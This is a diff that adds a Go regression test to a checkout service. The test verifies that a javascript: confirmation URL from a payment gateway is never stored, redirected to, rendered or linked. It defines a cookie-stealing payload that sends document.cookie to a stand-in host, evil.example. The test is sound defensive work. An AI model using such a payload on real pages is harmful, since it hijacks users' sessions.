@@ -1,0 +1,51 @@
+package handlers_test
+
+import (
+	"context"
+	"net/http"
+	"strings"
+	"testing"
+
+	"pitlane/access"
+)
+
+// A javascript: confirmation_url never reaches a page as a link or a redirect: a gateway that
+// answers one gets it dropped at apply time (the Pay click then waits on the order's page, and
+// the session is flagged), and a row that holds one from before that rule is not rendered nor
+// followed by the checkout page, nor linked by the console. The main before this change
+// rendered it with templ.SafeURL and redirected customers to it.
+func TestJavascriptConfirmationURLIsNeverRenderedOrFollowed(t *testing.T) {
+	t.Parallel()
+	b := newConsoleBench(t)
+	const evil = "javascript:fetch('//evil.example/?'+document.cookie)"
+
+	// Answered by the gateway to a Pay click: not stored, not followed.
+	b.gw.SetConfirmationURL(evil)
+	a := b.agent(t)
+	action, form := payForm(t, a, b.link(t, "o-evil", 1999, "EUR"))
+	rec := a.post(action, form)
+	if loc := rec.Header().Get("Location"); rec.Code != http.StatusSeeOther || !strings.HasPrefix(loc, "/checkout/o-evil") {
+		t.Fatalf("Pay = %d to %q, want the order's own page", rec.Code, loc)
+	}
+	if n := b.count(t, `SELECT count(*) FROM payment_sessions WHERE confirmation_url IS NOT NULL OR flagged_at IS NULL`); n != 0 {
+		t.Fatalf("%d sessions store the URL or are not flagged", n)
+	}
+	b.gw.SetConfirmationURL("")
+
+	// A row from before the rule: the page neither links nor redirects to it.
+	s := b.payment(t, "o-old-row", 1999)
+	if _, err := b.pool.Exec(context.Background(), `UPDATE payment_sessions SET confirmation_url = $2 WHERE id = $1`, s.ID, evil); err != nil {
+		t.Fatal(err)
+	}
+	rec = a.get("/checkout/o-old-row")
+	if rec.Code != http.StatusOK || strings.Contains(rec.Body.String(), "javascript:") {
+		t.Fatalf("checkout page = %d, renders the URL:\n%s", rec.Code, rec.Body)
+	}
+	b.user(t, "sup@example.com", access.RoleSupport)
+	sup := b.agent(t)
+	sup.login("sup@example.com")
+	rec = sup.get("/payments/" + s.ID)
+	if rec.Code != http.StatusOK || strings.Contains(rec.Body.String(), `href="javascript:`) {
+		t.Fatalf("console payment page = %d, links the URL", rec.Code)
+	}
+}
